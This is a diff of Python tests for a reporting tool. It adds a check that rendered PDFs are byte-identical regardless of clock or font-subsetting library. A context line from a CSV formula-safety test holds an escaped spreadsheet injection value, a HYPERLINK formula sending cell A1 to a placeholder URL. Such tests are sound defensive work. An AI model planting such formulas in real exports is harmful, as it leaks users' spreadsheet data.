@@ -49,3 +49,22 @@ def test_the_figures_csv_is_formula_safe_and_keeps_numbers():
     assert rows[0] == ["figure", "value"]
     assert dict(rows[1:]) == {"profile.notes": '\'=HYPERLINK("http://x/?"&A1,"click")', "profile.staff_total": "12",
                               "profile.change": "-3", "profile.names": "'@a; b"}
+
+
+def test_pdf_bytes_do_not_depend_on_the_clock_or_on_libharfbuzz_subset(monkeypatch):
+    """fontTools subsets on every machine (libharfbuzz-subset present or not) and its timestamp is
+    the data's date: PDFs written at other times, with the library offered or not, are identical."""
+    import time
+
+    from weasyprint.pdf import fonts
+
+    from analysis.reports import render
+
+    html = "<html lang='vi'><head><title>t</title></head><body><p>Cán bộ khuyến công <b>516</b></p></body></html>"
+    first = render.html_to_pdf(html, 2022)
+    assert fonts.harfbuzz_subset is None  # the fontTools path, forced
+    later = time.time() + 86400 * 400
+    monkeypatch.setattr(time, "time", lambda: later)
+    monkeypatch.setattr(fonts, "harfbuzz_subset", object())  # as if the system library were there
+    render.one_font_subsetter.cache_clear()
+    assert render.html_to_pdf(html, 2022) == first
